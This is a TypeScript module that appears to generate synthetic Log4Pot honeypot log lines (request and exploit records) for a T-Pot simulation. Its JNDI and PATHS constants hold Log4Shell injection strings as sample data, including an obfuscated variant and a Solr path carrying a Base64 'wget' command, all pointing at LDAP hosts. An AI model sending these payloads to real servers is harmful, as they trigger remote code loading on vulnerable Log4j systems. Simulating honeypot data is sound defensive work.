/**
 * Log4Pot (T-Pot mobile edition; host 80/443/8080/9200/25565 → 8080) `log4pot/log/log4pot.log`:
 * Python JSON, `reason` (T-Pot renames upstream's `type`): start, request, exploit, end.
 * `timestamp` UTC without zone (`isoformat()`, `.ffffff` dropped at 0). A request logs the
 * request line and headers; an exploit names where the `${jndi:…}` string was found.
 */
import type { Source } from "./addresses.ts";
import { US_PER_SECOND, pyIsoformat } from "./clock.ts";
import type { AttackerField, Emit, FormatModule, GeneratorContext } from "./format.ts";
import { stream } from "./format.ts";
import { SENSOR_PUBLIC_IP } from "./honeytrap.ts";
import { PotGenerator, uuid } from "./pot.ts";
import { pyString } from "./pyjson.ts";

const JNDI = ["${jndi:ldap://198.51.100.9:1389/a}", "${${lower:j}ndi:${lower:l}dap://185.244.25.153:1389/Exploit}", "${jndi:dns://log4shell.example.net/x}"];
const PATHS = ["/", "/?x=${jndi:ldap://198.51.100.9:1389/a}", "/solr/admin/cores?action=${jndi:ldap://185.244.25.153:1389/Basic/Command/Base64/d2dldA==}", "/favicon.ico"];

export const log4potFormat: FormatModule = {
  name: "log4pot",
  dir: "log4pot/log",
  streams: [stream("log4pot.log")],
  countsAsAttack: true,
  fields: { "request.path": "http-path", "headers.User-Agent": "user-agent", payload: "http-body" },
  create: (ctx) => new Log4potGenerator(ctx),
};

class Log4potGenerator extends PotGenerator {
  constructor(ctx: GeneratorContext) {
    super(ctx, "log4pot", { visitsPerWeek: 16 });
  }

  onStart(atUs: number, _fresh: boolean, emit: Emit): void {
    emit({ writeUs: atUs, line: `{"reason": "start", "timestamp": "${pyIsoformat(atUs)}"}`, fact: null });
  }

  onStop(atUs: number, emit: Emit): void {
    emit({ writeUs: atUs, line: `{"reason": "end", "timestamp": "${pyIsoformat(atUs)}"}`, fact: null });
  }

  protected visit(t0: number, source: Source): void {
    const rng = this.rng;
    const id = uuid(rng);
    const srcPort = this.ports.take(source.ip);
    const path = this.pick("http-path", rng.pick(PATHS), t0);
    const jndi = rng.pick(JNDI);
    const inAgent = this.sweeping || rng.chance(0.5);
    const ua = this.pick("user-agent", inAgent ? jndi : this.ctx.plainValues.userAgent(rng), t0);
    const fields: AttackerField[] = [["request.path", path], ["headers.User-Agent", ua]];
    this.out(
      t0,
      `{"reason": "request", "timestamp": "${pyIsoformat(t0)}", "correlation_id": "${id}", "server_port": 8080, "client": "${source.ip}", "port": ${srcPort}, "request": ${pyString(`GET ${path} HTTP/1.1`)}, "headers": {"Host": "${SENSOR_PUBLIC_IP}:8080", "User-Agent": ${pyString(ua)}, "Accept": "*/*"}}`,
      this.fact(t0, source, "request", { port: 8080 }),
      fields,
    );
    if (this.sweeping || path.includes("${") || inAgent) {
      const t = t0 + rng.int(100, 5000);
      const payload = this.pick("http-body", jndi, t);
      this.out(t, `{"reason": "exploit", "timestamp": "${pyIsoformat(t)}", "correlation_id": "${id}", "location": "${inAgent ? "header-User-Agent" : "request"}", "payload": ${pyString(payload)}, "deobfuscated_payload": ${pyString(payload)}}`, this.fact(t, null, "exploit"), [["payload", payload]]);
    }
    this.observe({ tsUs: t0, endUs: t0 + rng.int(50_000, US_PER_SECOND), src: source, srcPort, destPort: 8080, transport: "TCP", app: "http", detail: path, userAgent: ua });
  }
}
